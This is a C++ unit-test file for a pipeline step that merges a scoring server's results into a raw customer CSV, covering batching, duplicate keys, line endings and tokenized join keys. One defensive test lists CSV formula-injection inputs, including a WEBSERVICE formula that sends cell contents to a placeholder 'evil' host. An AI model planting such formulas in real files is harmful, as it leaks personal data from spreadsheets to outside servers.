#include "agent/pipeline/integrate.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <random>
#include <set>
#include <string>
#include <vector>

#include "test/support/test_util.h"

namespace sdp {
namespace {

using testing::FileExists;
using testing::ReadFile;
using testing::ScopedTempDir;
using testing::WriteFile;

// The raw file of `keys`, one row per key: id, a quoted name with a comma, a number.
std::string RawCsv(const std::vector<std::string>& keys) {
  std::string csv = "customer_id,name,amount\n";
  for (size_t i = 0; i < keys.size(); ++i) {
    csv += keys[i] + ",\"Doe, J" + std::to_string(i) + "\"," + std::to_string(i * 7) + "\n";
  }
  return csv;
}

std::string ResultLine(const std::string& key, size_t i) {
  return key + ",0." + std::to_string(100 + i % 900) + "," + (i % 2 ? "high" : "low") + ",m1\n";
}

// Runs the join of `raw` with `results`; returns the output file's content.
std::string Integrate(const ScopedTempDir& dir, const std::string& raw, const std::string& results,
                      IntegrateReport* report) {
  IntegrateJob job;
  job.raw_input = dir.File("raw.csv");
  job.output = dir.File("merged.csv");
  job.results_csv = results;
  WriteFile(job.raw_input, raw);
  std::string err;
  EXPECT_TRUE(IntegrateResults(job, report, &err)) << err;
  return ReadFile(job.output);
}

// Several batches (2,048 rows each, merged two at a time on two threads, an odd one last), with
// the results in the raw file's order: every row matched, raw order and quoting kept.
TEST(IntegrateTest, AlignedResultsAcrossManyBatches) {
  ScopedTempDir dir;
  std::vector<std::string> keys;
  std::string results = "record_key,score,risk_band,model_version\n", expected;
  for (size_t i = 0; i < 5000; ++i) keys.push_back("C" + std::to_string(100000 + i));
  for (size_t i = 0; i < keys.size(); ++i) results += ResultLine(keys[i], i);
  expected = "customer_id,name,amount,score,risk_band,model_version\n";
  for (size_t i = 0; i < keys.size(); ++i) {
    const std::string line = ResultLine(keys[i], i);
    expected += keys[i] + ",\"Doe, J" + std::to_string(i) + "\"," + std::to_string(i * 7) +
                line.substr(keys[i].size());
  }
  IntegrateReport report;
  EXPECT_EQ(Integrate(dir, RawCsv(keys), results, &report), expected);
  EXPECT_EQ(report.raw_rows, 5000u);
  EXPECT_EQ(report.matched_rows, 5000u);
  EXPECT_EQ(report.results, 5000u);
}

// Results shuffled, a tenth of them missing, and raw keys repeated: every raw row with a result
// gets its key's result (duplicates all updated), the others keep empty result columns, and the
// raw order holds.
TEST(IntegrateTest, ShuffledMissingAndDuplicateKeys) {
  ScopedTempDir dir;
  std::vector<std::string> keys;
  for (size_t i = 0; i < 4500; ++i) keys.push_back("K" + std::to_string(i % 4000));
  std::vector<size_t> order(4000);
  for (size_t i = 0; i < order.size(); ++i) order[i] = i;
  std::shuffle(order.begin(), order.end(), std::mt19937(7));
  std::string results = "record_key,score,risk_band,model_version\n";
  for (const size_t i : order) {
    if (i % 10 != 3) results += ResultLine("K" + std::to_string(i), i);
  }
  IntegrateReport report;
  const std::string merged = Integrate(dir, RawCsv(keys), results, &report);
  std::string expected = "customer_id,name,amount,score,risk_band,model_version\n";
  uint64_t matched = 0;
  for (size_t i = 0; i < keys.size(); ++i) {
    const size_t k = i % 4000;
    expected += keys[i] + ",\"Doe, J" + std::to_string(i) + "\"," + std::to_string(i * 7);
    if (k % 10 == 3) {
      expected += ",,,\n";
    } else {
      expected += ResultLine(keys[i], k).substr(keys[i].size());
      ++matched;
    }
  }
  EXPECT_EQ(merged, expected);
  EXPECT_EQ(report.raw_rows, 4500u);
  EXPECT_EQ(report.matched_rows, matched);
}

// A BOM, CRLF line endings and a last row without a newline come out as they went in (the
// last row gets the file's line ending, since result columns follow it).
TEST(IntegrateTest, KeepsBomLineEndingsAndQuoting) {
  ScopedTempDir dir;
  const std::string raw =
      "\xEF\xBB\xBF"
      "customer_id,note\r\n\"A1\",\"say \"\"hi\"\"\"\r\nB2,x";
  const std::string results =
      "record_key,score,risk_band,model_version\nB2,0.5,low,m1\n"
      "A1,0.9,high,m1\n";
  IntegrateReport report;
  EXPECT_EQ(Integrate(dir, raw, results, &report),
            "\xEF\xBB\xBF"
            "customer_id,note,score,risk_band,model_version\r\n"
            "\"A1\",\"say \"\"hi\"\"\",0.9,high,m1\r\nB2,x,0.5,low,m1\r\n");
  EXPECT_EQ(report.matched_rows, 2u);
}

// A raw file that already has a result column, or a malformed raw row past the first batches:
// a clear error naming the file, and no output file.
TEST(IntegrateTest, BadInputLeavesNoOutput) {
  ScopedTempDir dir;
  IntegrateJob job;
  job.raw_input = dir.File("raw.csv");
  job.output = dir.File("merged.csv");
  job.results_csv = "record_key,score,risk_band,model_version\nA,1,low,m1\n";
  IntegrateReport report;
  std::string err;
  WriteFile(job.raw_input, "customer_id,score\nA,1\n");
  EXPECT_FALSE(IntegrateResults(job, &report, &err));
  EXPECT_NE(err.find("already has a column 'score'"), std::string::npos) << err;
  EXPECT_FALSE(FileExists(job.output));

  std::vector<std::string> keys;
  for (size_t i = 0; i < 6000; ++i) keys.push_back("C" + std::to_string(i));
  WriteFile(job.raw_input, RawCsv(keys) + "C6000,\"unterminated\n");
  err.clear();
  EXPECT_FALSE(IntegrateResults(job, &report, &err));
  EXPECT_NE(err.find(job.raw_input + ":6002"), std::string::npos) << err;
  EXPECT_FALSE(FileExists(job.output));
}

// Issue: with the raw file in batch order, the cursor shortcut gave two raw rows of a repeated
// key the first and the second of its results; in any other order both got the last one. The rule
// on every path: the last result in batch order, for every raw row of the key.
TEST(IntegrateTest, RepeatedKeyInBatchOrderGetsItsLastResultOnEveryRow) {
  ScopedTempDir dir;
  const std::string results =
      "record_key,score,risk_band,model_version\n"
      "A,0.1,low,m1\nB,0.5,medium,m1\nA,0.9,high,m1\nC,0.2,low,m1\n";
  IntegrateReport report;
  EXPECT_EQ(Integrate(dir, "customer_id,x\nA,1\nB,2\nA,3\nC,4\n", results, &report),
            "customer_id,x,score,risk_band,model_version\n"
            "A,1,0.9,high,m1\nB,2,0.5,medium,m1\nA,3,0.9,high,m1\nC,4,0.2,low,m1\n");
  EXPECT_EQ(report.matched_rows, 4u);
  EXPECT_EQ(report.keys_with_several_results, 1u);
  EXPECT_EQ(report.disagreeing_keys, 1u);
}

// Property: for random result sets with repeated keys (some agreeing, some not), any permutation
// of the raw rows, with unknown keys inserted and rows deleted, gives every raw row exactly the
// result the key-index rule gives (the last result of its key in batch order), and the summary
// counts the repeated and the disagreeing keys.
TEST(IntegrateTest, EveryRowGetsItsKeysLastResultUnderAnyOrder) {
  ScopedTempDir dir;
  for (uint32_t seed = 1; seed <= 12; ++seed) {
    std::mt19937 rng(seed);
    const size_t distinct = 300 + rng() % 5000;  // one batch or several
    std::vector<std::string> batch;              // keys in batch (upload) order
    for (size_t i = 0; i < distinct; ++i) {
      batch.push_back("K" + std::to_string(i));
      if (rng() % 50 == 0) batch.push_back("K" + std::to_string(i));                // right after
      if (rng() % 60 == 0) batch.push_back("K" + std::to_string(rng() % (i + 1)));  // later
    }
    std::string results = "record_key,score,risk_band,model_version\n";
    std::map<std::string, std::string> last, first;
    std::map<std::string, int> count;
    std::set<std::string> disagree;
    for (size_t i = 0; i < batch.size(); ++i) {
      const std::string& k = batch[i];
      // Half of the repeats carry the same result, half another one.
      const bool same = count[k] > 0 && std::hash<std::string>()(k) % 2 == 0;
      const std::string cells = same ? first[k] : ResultLine(k, rng() % 1000).substr(k.size());
      results += k + cells;
      if (count[k]++ == 0) first[k] = cells;
      const auto fields = [](const std::string& c) { return c.substr(0, c.rfind(',')); };
      if (fields(cells) != fields(first[k])) disagree.insert(k);
      last[k] = cells;
    }
    size_t repeated = 0;
    for (const auto& [k, n] : count) repeated += n > 1;

    for (int variant = 0; variant < 3; ++variant) {
      std::vector<std::string> raw = batch;  // variant 0: the raw file in batch order
      if (variant >= 1) std::shuffle(raw.begin(), raw.end(), rng);
      if (variant == 2) {
        for (size_t i = 0; i < raw.size() / 20; ++i) raw.erase(raw.begin() + rng() % raw.size());
        for (size_t i = 0; i < 40; ++i) {
          raw.insert(raw.begin() + rng() % raw.size(), "U" + std::to_string(i));
        }
      }
      std::string raw_csv = "customer_id,n\n",
                  expected = "customer_id,n,score,risk_band,model_version\n";
      uint64_t matched = 0;
      for (size_t i = 0; i < raw.size(); ++i) {
        raw_csv += raw[i] + "," + std::to_string(i) + "\n";
        const auto it = last.find(raw[i]);
        expected += raw[i] + "," + std::to_string(i) + (it == last.end() ? ",,,\n" : it->second);
        matched += it != last.end();
      }
      IntegrateReport report;
      ASSERT_EQ(Integrate(dir, raw_csv, results, &report), expected)
          << "seed " << seed << " variant " << variant;
      EXPECT_EQ(report.matched_rows, matched);
      EXPECT_EQ(report.keys_with_several_results, repeated);
      EXPECT_EQ(report.disagreeing_keys, disagree.size());
    }
  }
}

// A hostile server's result cells never reach the merged file (which holds raw PII and is opened
// in spreadsheets): a formula, a line break, an out-of-range or non-numeric score, an unknown band,
// a version outside its charset are refused as a whole, naming the results line, with no output.
TEST(IntegrateTest, HostileResultCellsAreRefusedAndNothingIsWritten) {
  ScopedTempDir dir;
  IntegrateJob job;
  job.raw_input = dir.File("raw.csv");
  job.output = dir.File("merged.csv");
  WriteFile(job.raw_input, "customer_id,name\nA,Alice\nB,Bob\n");
  const std::vector<std::pair<std::string, std::string>> attacks = {
      {"B,\"=WEBSERVICE(\"\"https://evil/?\"\"&A2&B2)\",low,m1",
       "score '=WEBSERVICE(\"https://evil/?\"&A2&B2)'"},
      {"B,0.5,=1+1,m1", "risk_band '=1+1'"},
      {"B,0.5,low,@SUM(A1)", "model_version '@SUM(A1)'"},
      {"B,0.5,low,-2+3", "model_version '-2+3'"},
      {"B,\"0.5\nx\",low,m1", "score '0.5?x'"},
      {"B,1.5,low,m1", "score '1.5'"},
      {"B,-0,low,m1", "score '-0'"},
      {"B,nan,low,m1", "score 'nan'"},
      {"B,0x1p-2,low,m1", "score '0x1p-2'"},
      {"B, 0.5,low,m1", "score ' 0.5'"},
      {"B,0.5,HIGH,m1", "risk_band 'HIGH'"},
      {"B,0.5,low,\"m1\tx\"", "model_version 'm1?x'"},
      {"B,0.5,low,", "model_version ''"},
  };
  for (const auto& [line, shown] : attacks) {
    job.results_csv = "record_key,score,risk_band,model_version\nA,0.25,low,m1\n" + line + "\n";
    IntegrateReport report;
    std::string err;
    EXPECT_FALSE(IntegrateResults(job, &report, &err)) << line;
    EXPECT_EQ(err.rfind("results: line 3: " + shown, 0), 0u) << err;
    EXPECT_NE(err.find("; fix: "), std::string::npos) << err;
    EXPECT_FALSE(FileExists(job.output)) << line;
  }
  // The shapes the server does produce are accepted.
  job.results_csv =
      "record_key,score,risk_band,model_version\nA,0,low,demo_v1\nB,3e-05,high,v2.1:rc-1\n";
  IntegrateReport report;
  std::string err;
  EXPECT_TRUE(IntegrateResults(job, &report, &err)) << err;
  EXPECT_EQ(ReadFile(job.output),
            "customer_id,name,score,risk_band,model_version\nA,Alice,0,low,demo_v1\n"
            "B,Bob,3e-05,high,v2.1:rc-1\n");
}

// Which key columns can be joined on once tokenized: HASH and FPE are re-derived from the raw
// key; RANDOM and MASKED cannot be, and say so with the fix; an untokenized key is no rule.
TEST(IntegrateTest, JoinKeyRuleOnlyForReDerivableTokens) {
  TokenizationConfig config;
  std::string err;
  ASSERT_TRUE(ParseTokenizationConfig(R"(version: 1
source_table: customers
columns:
  customer_id: { token_type: HASH }
  account: { token_type: FPE, algorithm: FF1, alphabet: digits }
  email: { token_type: RANDOM }
  phone: { token_type: MASKED, mask: last4 }
)",
                                      "test.yml", &config, &err))
      << err;
  for (const char* key : {"customer_id", "account"}) {
    const ColumnRule* rule = JoinKeyRule(config, key, &err);
    ASSERT_NE(rule, nullptr) << key;
    EXPECT_EQ(rule->column, key);
    EXPECT_TRUE(err.empty()) << err;
  }
  EXPECT_EQ(JoinKeyRule(config, "amount", &err), nullptr);
  EXPECT_TRUE(err.empty()) << err;
  EXPECT_EQ(JoinKeyRule(config, "email", &err), nullptr);
  EXPECT_EQ(err,
            "key column 'email' is tokenized as RANDOM, which cannot be re-derived to join; fix: "
            "tokenize the key column with HASH or FPE");
  EXPECT_EQ(JoinKeyRule(config, "phone", &err), nullptr);
  EXPECT_NE(err.find("tokenized as MASKED"), std::string::npos) << err;
}

}  // namespace
}  // namespace sdp
